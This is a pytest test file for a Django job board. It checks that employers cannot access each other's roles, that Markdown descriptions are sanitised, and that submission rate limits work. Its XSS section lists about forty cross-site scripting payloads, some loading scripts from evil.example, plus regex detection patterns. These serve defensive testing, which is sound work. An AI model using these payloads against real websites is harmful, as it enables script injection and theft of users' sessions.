"""Posting security: no access to other employers' roles (IDOR), no script through
Markdown (XSS), and the abuse limits (rate limits per user and IP, pending cap)."""

import re

import pytest
from django.urls import reverse

from listings.models import ModerationEvent, Role
from listings.posting.markdown import markdown_to_html
from tests.factories import (
    ApprovedRoleFactory,
    ExpiredRoleFactory,
    PendingRoleFactory,
    RejectedRoleFactory,
    RoleFactory,
)
from tests.factories_posting import employer_member, role_post_data

pytestmark = pytest.mark.django_db

POST_URL = reverse("listings:post")


# --- IDOR ------------------------------------------------------------------------------


@pytest.fixture
def a_and_b():
    """Employer A with a role in every state, and B's logged-in member."""
    _, employer_a = employer_member(name="Employer A")
    user_b, _ = employer_member(name="Employer B")
    roles = [
        factory(employer=employer_a, title=f"A's secret {factory.__name__}")
        for factory in (
            RoleFactory,
            PendingRoleFactory,
            ApprovedRoleFactory,
            RejectedRoleFactory,
            ExpiredRoleFactory,
        )
    ]
    return user_b, roles


GET_URLS = ["dashboard_role", "role_edit", "post_submitted"]
POST_URLS = ["role_edit", "role_close", "role_renew", "role_duplicate", "role_edit_guidance"]


@pytest.mark.parametrize("name", GET_URLS)
def test_b_cannot_view_as_roles(client, a_and_b, name):
    user_b, roles = a_and_b
    client.force_login(user_b)
    for role in roles:
        response = client.get(reverse(f"listings:{name}", kwargs={"pk": role.pk}))
        assert response.status_code == 404, (name, role.status)
        assert role.title not in response.content.decode()


@pytest.mark.parametrize("name", POST_URLS)
def test_b_cannot_change_as_roles(client, a_and_b, name):
    user_b, roles = a_and_b
    client.force_login(user_b)
    before = {r.pk: (r.status, r.title, r.expires_at) for r in Role.objects.all()}
    count = Role.objects.count()
    for role in roles:
        response = client.post(
            reverse(f"listings:{name}", kwargs={"pk": role.pk}),
            role_post_data(action="submit", title="Hijacked"),
        )
        assert response.status_code == 404, (name, role.status)
    assert {r.pk: (r.status, r.title, r.expires_at) for r in Role.objects.all()} == before
    assert Role.objects.count() == count
    assert not ModerationEvent.objects.exists()


def test_an_unknown_id_and_another_employers_id_look_the_same(client, a_and_b):
    user_b, roles = a_and_b
    client.force_login(user_b)
    missing = client.get(reverse("listings:dashboard_role", kwargs={"pk": 999_999}))
    taken = client.get(reverse("listings:dashboard_role", kwargs={"pk": roles[0].pk}))
    assert missing.status_code == taken.status_code == 404


def test_b_does_not_see_as_roles_on_the_dashboard(client, a_and_b):
    user_b, _ = a_and_b
    client.force_login(user_b)
    assert "A's secret" not in client.get(reverse("listings:dashboard")).content.decode()


def test_a_user_with_no_employer_gets_404_too(client, a_and_b):
    from tests.factories import UserFactory

    _, roles = a_and_b
    client.force_login(UserFactory())
    for name in POST_URLS:
        assert (
            client.post(reverse(f"listings:{name}", kwargs={"pk": roles[1].pk})).status_code == 404
        )


def test_posting_for_an_employer_one_is_not_a_member_of_is_refused(client, a_and_b):
    user_b, roles = a_and_b
    client.force_login(user_b)
    client.post(POST_URL, role_post_data(action="submit", employer=roles[0].employer_id))
    created = Role.objects.filter(title="Machine Learning Engineer").get()
    assert created.employer.name == "Employer B"  # the field is ignored with one employer


# --- XSS -------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "text <script>document.cookie</script> text",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[click]( javascript:alert(1) )",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://img.example/x.png)',
    "<img src=x onerror=alert(1)>",
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    '<details open ontoggle="alert(1)">x</details>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=x onerror=alert(1)>-->",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '[x](https://ok.example "title" onclick=alert(1))',
    '<a href="https://ok.example" target="_blank" rel="opener">ok</a>',
]

FORBIDDEN = [
    re.compile(p, re.IGNORECASE)
    for p in (
        r"<script",
        r"<svg",
        r"<math",
        r"<iframe",
        r"<object",
        r"<embed",
        r"<style",
        r"<form",
        r"<meta",
        r"<base",
        r"<img",
        r"<details",
        r"<noscript",
        r"<template",
        r"\son\w+\s*=",  # any event-handler attribute
        r"(?:href|src|action|data)\s*=\s*[\"']?\s*(?:javascript|vbscript|data):",
        r"style\s*=",
        r"target\s*=",
    )
]


def _check_tags_only(html: str) -> None:
    for tag in re.findall(r"<[^>]+>", html):
        for pattern in FORBIDDEN:
            assert not pattern.search(tag), (pattern.pattern, tag)
        href = re.search(r'href="([^"]*)"', tag)
        if href:
            assert re.match(r"(https?://|mailto:)", href.group(1)), tag


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_the_markdown_pipeline(payload):
    html = markdown_to_html(f"Intro paragraph.\n\n{payload}\n\nOutro paragraph.")
    _check_tags_only(html)
    assert "Intro paragraph." in html


def test_links_that_are_safe_survive_with_rel():
    html = markdown_to_html(
        "[Apply](https://acme.example/jobs) or [mail](mailto:jobs@acme.example)"
    )
    assert (
        '<a href="https://acme.example/jobs" rel="nofollow noopener noreferrer ugc">Apply</a>'
        in html
    )
    assert 'href="mailto:jobs@acme.example"' in html


def test_markdown_formatting_survives():
    html = markdown_to_html(
        "# Big\n\n**bold** *em*\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<h2>Big</h2>" in html  # h1 competes with the page title
    assert "<strong>bold</strong>" in html and "<em>em</em>" in html
    assert "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html


def test_a_submitted_xss_description_is_stored_and_shown_clean(client):
    user, _ = employer_member()
    client.force_login(user)
    payload = "\n\n".join(XSS_PAYLOADS)
    description = f"We need experience with PyTorch and Python for this role.\n\n{payload}"
    client.post(POST_URL, role_post_data(action="submit", description_markdown=description))
    role = Role.objects.get()
    _check_tags_only(role.description)
    assert role.description_markdown == description.strip()  # the source is kept for editing
    html = client.get(reverse("listings:dashboard_role", kwargs={"pk": role.pk})).content.decode()
    body = html[
        html.index('class="role-body"') : html.index("</div>", html.index('class="role-body"'))
    ]
    _check_tags_only(body)
    # The Markdown source in the edit form is escaped text, not markup.
    edit = client.get(reverse("listings:role_edit", kwargs={"pk": role.pk})).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in edit
    assert "<script>alert(1)</script>" not in edit


def test_the_preview_renders_the_description_clean(client):
    user, _ = employer_member()
    client.force_login(user)
    description = (
        "Experience with Python and PyTorch needed for this machine learning role.\n\n"
        + "\n\n".join(XSS_PAYLOADS)
    )
    html = client.post(
        POST_URL, role_post_data(action="preview", description_markdown=description)
    ).content.decode()
    start = html.index('class="role-body"')
    _check_tags_only(html[start : html.index("</div>", start)])


# --- Rate limits and the pending cap -------------------------------------------------


def submit(client, **overrides):
    return client.post(POST_URL, role_post_data(action="submit", **overrides))


def test_per_user_rate_limit(client, settings):
    settings.POSTING_RATE_LIMIT_USER = "2/h"
    settings.POSTING_MAX_PENDING_PER_EMPLOYER = 100
    user, _ = employer_member()
    client.force_login(user)
    assert submit(client).status_code == 302
    assert submit(client).status_code == 302
    response = submit(client)
    assert response.status_code == 429
    html = response.content.decode()
    assert "limit of 2 an hour submissions for one account" in html
    assert "Nothing was lost" in html
    assert 'type="hidden" name="title" value="Machine Learning Engineer"' in html
    assert Role.objects.count() == 2


def test_per_ip_rate_limit_across_accounts(client, settings):
    settings.POSTING_RATE_LIMIT_IP = "2/h"
    for expected in (302, 302, 429):
        user, _ = employer_member()
        client.force_login(user)
        response = submit(client)
        assert response.status_code == expected
    assert "submitted from your network" in response.content.decode()
    assert Role.objects.count() == 2


def test_a_different_ip_is_not_limited(client, settings):
    settings.POSTING_RATE_LIMIT_IP = "1/h"
    user, _ = employer_member()
    client.force_login(user)
    assert submit(client).status_code == 302
    assert (
        client.post(POST_URL, role_post_data(action="submit"), REMOTE_ADDR="10.1.2.3").status_code
        == 302
    )


def test_previews_do_not_count_against_the_limit(client, settings):
    settings.POSTING_RATE_LIMIT_USER = "1/h"
    user, _ = employer_member()
    client.force_login(user)
    for _ in range(3):
        assert client.post(POST_URL, role_post_data(action="preview")).status_code == 200
    assert submit(client).status_code == 302


def test_edits_count_against_the_limit(client, settings):
    settings.POSTING_RATE_LIMIT_USER = "1/h"
    user, employer = employer_member()
    client.force_login(user)
    role = PendingRoleFactory(employer=employer)
    url = reverse("listings:role_edit", kwargs={"pk": role.pk})
    assert client.post(url, role_post_data(action="submit")).status_code == 302
    assert client.post(url, role_post_data(action="submit", title="Again")).status_code == 429
    role.refresh_from_db()
    assert role.title != "Again"


def test_pending_cap_per_employer(client, settings):
    settings.POSTING_MAX_PENDING_PER_EMPLOYER = 2
    user, employer = employer_member(name="Busy Co")
    client.force_login(user)
    PendingRoleFactory(employer=employer)
    assert submit(client).status_code == 302
    response = submit(client)
    assert response.status_code == 429
    assert "Busy Co already has 2 roles waiting for review" in response.content.decode()
    assert Role.objects.filter(status="pending").count() == 2
    # Editing a role that is already pending does not add to the queue.
    pending = Role.objects.filter(status="pending").first()
    url = reverse("listings:role_edit", kwargs={"pk": pending.pk})
    assert client.post(url, role_post_data(action="submit")).status_code == 302
    # Sending a live role back to review does.
    live = ApprovedRoleFactory(employer=employer)
    url = reverse("listings:role_edit", kwargs={"pk": live.pk})
    assert client.post(url, role_post_data(action="submit")).status_code == 429
    live.refresh_from_db()
    assert live.status == Role.Status.APPROVED


def test_guidance_endpoint_is_rate_limited(client, settings):
    settings.POSTING_GUIDANCE_RATE_LIMIT = "2/m"
    user, _ = employer_member()
    client.force_login(user)
    url = reverse("listings:post_guidance")
    assert [client.post(url, role_post_data()).status_code for _ in range(3)] == [200, 200, 429]


def test_allauth_rate_limits_are_on(client):
    from allauth.account import app_settings

    limits = app_settings.RATE_LIMITS
    assert limits["signup"] and limits["login_failed"] and limits["reset_password"]
